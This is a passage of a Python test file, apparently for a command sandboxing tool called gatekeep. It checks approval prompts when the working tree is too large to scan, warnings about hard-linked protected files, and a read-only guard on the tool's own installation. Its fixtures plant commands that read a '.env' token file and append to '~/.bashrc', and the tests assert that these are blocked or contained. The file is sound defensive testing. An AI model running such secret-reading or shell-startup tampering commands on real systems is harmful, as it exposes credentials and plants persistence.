    (sandbox.work / "zz/deep").mkdir()  # searched after the flood around it: past the limit
    (sandbox.work / "zz/deep/.env").write_text("TOKEN=1\n")
    plant(sandbox, "cat zz/deep/.env")

    result = sandbox.gatekeep("run", "-c", "make")

    assert result.returncode == 126, result.stderr
    assert "TOKEN" not in result.stdout
    assert result.stderr.startswith(
        "gatekeep: needs approval: sandbox: the working tree is too large to find every "
        "protected file; approve the run, or add directories to sandbox_paths.not_scanned\n")
    assert "instead: approve this run in the box as it is, or fix" in result.stderr
    plant(sandbox, "cat zz/deep/.env", "echo more >> $(HOME)/.bashrc")
    output, status = _approve(sandbox, "make")  # approved: it runs in the box it has
    assert status == 2, output
    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
                                  "sandbox_paths: {not_scanned: [zz]}\n")
    skipped = sandbox.gatekeep("run", "-c", "make")  # the operator's choice: no question
    assert skipped.returncode == 2, skipped.stderr
    assert "TOKEN=1\n" in skipped.stdout


def test_a_protected_file_with_another_hard_link_is_warned_about(sandbox: Sandbox) -> None:
    plant(sandbox)
    (sandbox.work / "dotfiles").mkdir()
    os.link(sandbox.home / ".bashrc", sandbox.work / "dotfiles/bashrc")
    warning = (f"gatekeep: warning: {sandbox.home}/.bashrc has another hard link: a write "
               "through it changes this protected file\n")

    boxed = sandbox.gatekeep("run", "-c", "true")
    checked = sandbox.gatekeep("check", "-c", "true", env={"NO_COLOR": "1"})

    assert (boxed.returncode, boxed.stderr) == (0, warning)
    assert f"  note: {warning.removeprefix('gatekeep: warning: ')}" in checked.stdout


def test_gatekeeps_own_installation_in_the_tree_stays_read_only(sandbox: Sandbox) -> None:
    """With gatekeep's environment inside the working tree (a project's own .venv), a boxed
    command that could rewrite its scripts or packages would run unjudged code next time."""
    tree = Path(sys.prefix).parent  # a tree that holds the Python environment running gatekeep
    probes = [Path(sys.prefix) / "bin" / "gatekeep-probe",
              Path(gatekeep.__file__).parent / "gatekeep-probe.py"]
    try:
        for probe in probes:
            boxed = sandbox.gatekeep("run", "-c", f"touch {shlex.quote(str(probe))}", cwd=tree)
            assert boxed.returncode == 1, boxed.stderr
            assert "Read-only file system" in boxed.stderr
            assert not probe.exists()
    finally:
        for probe in probes:
            probe.unlink(missing_ok=True)
